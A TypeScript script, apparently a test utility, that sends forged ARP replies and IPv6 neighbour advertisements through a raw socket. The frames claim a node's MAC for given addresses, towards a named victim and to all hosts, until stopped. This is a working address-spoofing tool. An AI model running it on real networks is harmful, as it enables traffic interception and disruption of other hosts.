/**
 * Sends ARP replies and neighbour advertisements in a node's name, seven a second for each address, to another node and to all hosts:
 * `forge-arp.ts NODE-MAC VICTIM-MAC ADDRESS…`, until it is stopped; then prints how many.
 */
import { once } from "node:events";
import { ArpOperation, encodeArp, encodeNeighbor, unsolicited } from "#pkg/layer2/testing";
import { EtherType, etherTypeFilter, interfaceIndexOf, PacketSocket, SendBatch } from "#pkg/linux";
import { broadcastMac, parseAddress, parseMac } from "#pkg/net";

const [nodeText = "", victimText = "", ...texts] = process.argv.slice(2);
const [node, victim, index] = [parseMac(nodeText), parseMac(victimText), interfaceIndexOf("eth0")];
if (node === undefined || victim === undefined || index === undefined)
  throw new Error("Cannot forge: two MAC addresses and eth0 needed");
const perSecond = 7;
const socket = PacketSocket.open(index, EtherType.arp, etherTypeFilter(EtherType.arp, 0));

/** A frame that uses the address towards the victim, or announces it to all hosts. */
function forged(text: string, isAnnouncement: boolean): Uint8Array {
  const address = parseAddress(text);
  if (address === undefined) throw new Error(`Cannot forge: ${text} is no address`);
  if (address.family === "IPv6") {
    const frame = unsolicited(node ?? 0, address.value);
    return encodeNeighbor(isAnnouncement ? frame : { ...frame, destinationMac: victim ?? 0 });
  }
  const value = Number(address.value);
  return encodeArp({
    destination: isAnnouncement ? broadcastMac : (victim ?? 0),
    source: node ?? 0,
    operation: ArpOperation.reply,
    senderMac: node ?? 0,
    senderAddress: value,
    targetMac: victim ?? 0,
    targetAddress: isAnnouncement ? value : 0,
  });
}

const pairs = texts.map((text) => [forged(text, true), forged(text, false)] as const);
let rounds = 0;
const forge = (): void => {
  for (const [announcement, answer] of pairs) {
    const batch = new SendBatch(1, 128);
    batch.push(rounds % perSecond === 0 ? announcement : answer);
    socket.send(batch);
  }
  rounds++;
};
console.log("sending");
const timer = setInterval(forge, 1000 / perSecond);
await once(process, "SIGTERM");
clearInterval(timer);
console.log(`sent ${rounds * pairs.length}`);
socket[Symbol.dispose]();
